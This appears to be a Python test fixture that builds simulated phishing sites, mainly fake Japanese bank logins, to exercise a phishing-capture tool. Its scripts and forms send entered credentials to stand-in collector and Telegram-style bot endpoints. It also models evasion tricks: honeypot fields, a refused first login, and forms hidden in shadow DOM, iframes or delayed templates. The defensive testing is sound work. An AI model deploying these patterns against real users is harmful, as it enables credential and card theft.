"""Logins that lead somewhere else than an honest one would, each in its own way."""

from __future__ import annotations

from tests.capture.zoo.forms import card_form, form, inputs, login_form
from tests.capture.zoo.site import Request, Response, Site, page, script, sends_to

TITLE = "例銀行 ログイン"
TO_CARD = sends_to("/card")
LOGIN = page(TITLE, login_form())
CARD = page("例銀行 カード情報の確認", card_form("/done"))
DONE = page("例銀行 手続き完了", "<p>お手続きありがとうございました。</p>")
WRONG = page(TITLE, "<p>パスワードが違います。</p>", login_form())
REST: dict[str, Site] = {"/card": CARD, "/done": DONE}

SENDS = "fetch('/in', {method: 'POST', body: new URLSearchParams(values())})"
VALUES = """
const values = () => [...document.querySelectorAll('input')].map(x => [x.name, x.value]);
"""
SCRIPTED = f"""{VALUES}
document.querySelector('button').onclick = () => {SENDS}.then(() => location = '/card');
"""
SHADOW = """
const root = document.querySelector('#here').attachShadow({mode: 'open'});
root.append(document.querySelector('template').content);
"""
LATE = """
setTimeout(() => document.body.append(document.querySelector('template').content), 1500);
"""
LUHN = """
const luhn = text => [...text.replace(/\\D/g, '')].reverse().reduce((sum, digit, at) =>
  sum + (at % 2 ? [0, 2, 4, 6, 8, 1, 3, 5, 7, 9][digit] : +digit), 0) % 10 === 0;
document.querySelector('form').onsubmit = event => {
  if (!luhn(event.target.card.value)) { event.preventDefault(); told.textContent =
    'カード番号が正しくありません。'; } };
"""
LEAVES = """
document.querySelector('input').oninput = () => { location = '{{honest-login/}}'; };
"""
MESSENGER = f"""{VALUES}
document.querySelector('button').onclick = () => fetch(
  '{{{{messenger/bot000:TEST/sendMessage}}}}?chat_id=1&text=' + JSON.stringify(values()),
  {{mode: 'no-cors'}}).then(() => location = '/card');
"""


def second_time(request: Request) -> Response:
    return WRONG if request.times() == 1 else sends_to("/card")


def trapped(request: Request) -> Response:
    """Whoever fills in what no person sees is a program."""
    return WRONG if request.form.get("fax") else sends_to("/card")


def accepts(first: Response, then: Site = TO_CARD) -> dict[str, Site]:
    return {"/": first, "/in": then, **REST}


TRAP = "<style>.fax { position: absolute; visibility: hidden }</style>"
TRAPPED = login_form().replace("<button", '<p class="fax"><input name="fax"></p><button')

SITES: dict[str, Site] = {
    "trap-field": accepts(page(TITLE, TRAP, TRAPPED), trapped),
    "refuses-first": accepts(LOGIN, second_time),
    "identifier-first": accepts(
        page(TITLE, form("/password", "login")),
    )
    | {"/password": page(TITLE, form("/in", "password", button="login"))},
    "asks-for-code": accepts(LOGIN, sends_to("/code"))
    | {"/code": page("例銀行 認証コードの入力", form("/card", "code"))},
    "sends-to-bank": accepts(LOGIN, sends_to("{{bank/}}")),
    "sends-to-bank-307": accepts(LOGIN, sends_to("{{bank/in}}", 307)),
    "sends-to-address-307": accepts(LOGIN, sends_to("http://192.0.2.99/in", 307)),
    "asks-for-a-name-alone": accepts(
        page(TITLE, form("/in", "login", button="login")),
        page("例銀行", "<p>ようこそ、お客様</p>"),
    ),
    "leaves-while-typed": accepts(page(TITLE, login_form(), script(LEAVES))),
    "sends-to-bank-script": accepts(LOGIN, page("…", script("location = '{{bank/}}'"))),
    "sends-to-bank-refresh": accepts(
        LOGIN, page("…", head='<meta http-equiv="refresh" content="0;url={{bank/}}">')
    ),
    "posts-elsewhere": accepts(page(TITLE, login_form("{{collector/in}}"))),
    "posts-to-messenger": accepts(
        page(TITLE, login_form("{{messenger/bot000:TEST/sendMessage}}?chat_id=1"))
    ),
    "posts-to-messenger-script": accepts(
        page(TITLE, inputs("login", "password", button="login"), script(MESSENGER))
    ),
    # Its form is read and never sent: no name but reserved ones resolves in the zoo.
    "posts-to-telegram": page(
        TITLE, login_form("https://api.telegram.org/bot000:TEST/sendMessage")
    ),
    "scripted-form": accepts(
        page(TITLE, inputs("login", "password", button="login"), script(SCRIPTED)),
        Response(body="{}", kind="application/json"),
    ),
    "form-in-frame": accepts(page(TITLE, '<iframe src="/frame" width="600" height="300"></iframe>'))
    | {"/frame": LOGIN},
    "card-first": {
        "/": page("Exampleparcel 追加料金のお支払い", "<p>60円</p>", card_form("/done")),
        "/done": page("Exampleparcel お支払い完了"),
    },
    "shadow-form": accepts(
        page(TITLE, '<div id="here"></div>', f"<template>{login_form()}</template>", script(SHADOW))
    ),
    "late-form": accepts(page(TITLE, f"<template>{login_form()}</template>", script(LATE))),
    "luhn-form": {
        "/": page("例銀行 カード情報の確認", card_form("/done"), "<p id=told></p>", script(LUHN)),
        "/done": DONE,
    },
    "collector": {"/in": sends_to("{{posts-elsewhere/card}}")},
    "messenger": Response(body='{"ok": true}', kind="application/json"),
}
